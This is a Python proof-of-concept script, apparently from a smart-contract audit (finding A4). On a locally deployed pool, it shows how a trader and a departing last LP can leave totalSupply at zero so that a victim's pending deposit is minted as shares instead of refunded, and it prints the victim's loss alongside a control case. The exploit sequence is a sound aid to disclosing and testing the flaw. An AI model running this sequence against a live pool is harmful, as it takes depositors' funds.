"""A4 - a pending deposit into a pool whose last LP has left while the book is open: the
"insolvent at execution -> refund" rule is skipped because totalSupply == 0.

execute_request refunds a deposit only when `totalSupply != 0 and NAV == 0`
(`if totalSupply == 0 or _total_assets() > 0: mint`). When the traders' gains dominate the
required cash (liability >= locked notional / max_utilisation), the free cash equals the
NAV, so the last LP can redeem everything while the book is open: supply 0. If the pool
is then insolvent (traders' gains above its cash), a victim's pending deposit - requested
while the pool was solvent and had LPs - is minted at 1 share per base unit instead of
refunded, and its money is now the pool's cash: it pays the traders' gains / claims.
The adversary is the trader (and the LP who left first).
"""

import boa

from common import ETH, WAD, addr, approve_pool, close, fmt, open_vault, try_call, value
from ringfence.risk_table import deploy_protocol

proto = deploy_protocol(decimals=6, pool_cash=300_000)  # the only LP: proto.lp (adversary's)
pool = proto.pool
trader, victim = addr("trader"), addr("victim")
proto.fund(trader, proto.units(2_000_000))
pid = open_vault(proto, trader, [(2000, True, 200)], 100_000)
proto.oracle.set_price(ETH, 3200 * WAD)  # deep in the money: gains >> notional / 5
print(f"cash {fmt(proto, pool.cash())} NAV {fmt(proto, pool.totalAssets())} "
      f"free {fmt(proto, pool.free_cash())} required {fmt(proto, pool.required_cash())}")

# the victim asks to deposit while the pool is solvent and has an LP
proto.token.mint(victim, proto.units(500_000))
approve_pool(proto, victim)
with boa.env.prank(victim):
    vid = pool.request_deposit(proto.units(500_000), victim)
print(f"victim request {vid}: 500,000 quoted {pool.requests(vid).quoted / 1e6:,.2f} shares")



def scenario(keep):
    """The LP redeems all its shares but `keep`; then the report; then the victim's request."""
    lp_shares = pool.balanceOf(proto.lp)
    with boa.env.prank(proto.lp):
        rid = pool.request_redeem(lp_shares - keep, proto.lp)
    boa.env.time_travel(seconds=pool.LP_DELAY())
    paid = pool.execute_request(rid)  # executed first (anyone chooses the order)
    print(f"  LP redeemed {lp_shares - keep} shares for {fmt(proto, paid)}; totalSupply "
          f"{pool.totalSupply()}; book open: {bool(pool.active_series())}")
    proto.oracle.set_price(ETH, 5000 * WAD)  # the report: the call's gain passes the cash
    print(f"  after report: cash {fmt(proto, pool.cash())} NAV {fmt(proto, pool.totalAssets())} "
          f"liability {pool.liability() / 1e18:,.2f}")
    ok, out = try_call(lambda: pool.execute_request(vid))
    refunded = pool.get_logs()[-1].refunded if ok else None
    print(f"  victim's deposit executed: ok={ok}, shares {out / 1e6 if ok else out}, refunded={refunded}")
    w0 = proto.ch.free_balance(trader)
    close(proto, trader, pid)
    print(f"  trader closes: paid {fmt(proto, proto.ch.free_balance(trader) - w0)} now, "
          f"claim queued {fmt(proto, pool.owed())}")
    loss = proto.units(500_000) - value(proto, victim) - proto.token.balanceOf(victim)
    print(f"  VICTIM LOSS: {fmt(proto, loss)} (wallet {fmt(proto, proto.token.balanceOf(victim))}, "
          f"shares worth {fmt(proto, value(proto, victim))})")


print("\n(1) the LP redeems every share: supply 0 when the victim's request executes")
with boa.env.anchor():
    scenario(0)
print("\n(2) control: the LP keeps 1 base unit of shares (supply 1)")
with boa.env.anchor():
    scenario(1)
